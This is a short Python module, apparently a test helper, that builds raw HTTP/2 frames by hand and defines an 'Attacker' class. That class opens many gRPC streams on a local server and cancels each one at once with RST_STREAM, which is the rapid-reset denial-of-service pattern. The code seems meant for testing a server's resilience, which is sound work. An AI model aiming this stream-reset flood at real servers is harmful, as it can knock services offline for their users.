"""HTTP/2 as an attacker speaks it: frames built by hand, by no library's rules."""

import contextlib
import itertools
import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
ACK, END_HEADERS = 1, 4
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(value):
    assert len(value) < 127
    return bytes([len(value)]) + value


def headers(stream, path):
    """Opens a call: POST, http, path and authority by their places in HPACK's table, the rest in words."""
    block = b"\x83\x86" + b"\x04" + _text(path) + b"\x01" + _text(b"localhost")
    block += b"\x00" + _text(b"te") + _text(b"trailers")
    block += b"\x00" + _text(b"content-type") + _text(b"application/grpc")
    return frame(HEADERS, END_HEADERS, stream, block)


class Attacker:
    """A connection to a server on this machine; a thread throws away whatever it says."""

    def __init__(self, port):
        self._socket = socket.create_connection(("127.0.0.1", port))
        self._streams = itertools.count(1, 2)
        self.send(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        threading.Thread(target=self._drain, daemon=True).start()

    def send(self, data):
        self._socket.sendall(data)

    def _drain(self):
        with contextlib.suppress(OSError):
            while self._socket.recv(2**16):
                pass

    def open_and_reset(self, method, calls):
        """Calls that are given up as soon as they are opened."""
        frames = []
        for stream in itertools.islice(self._streams, calls):
            frames += [headers(stream, method.encode()), frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))]
        self.send(b"".join(frames))

    def close(self):
        self._socket.close()
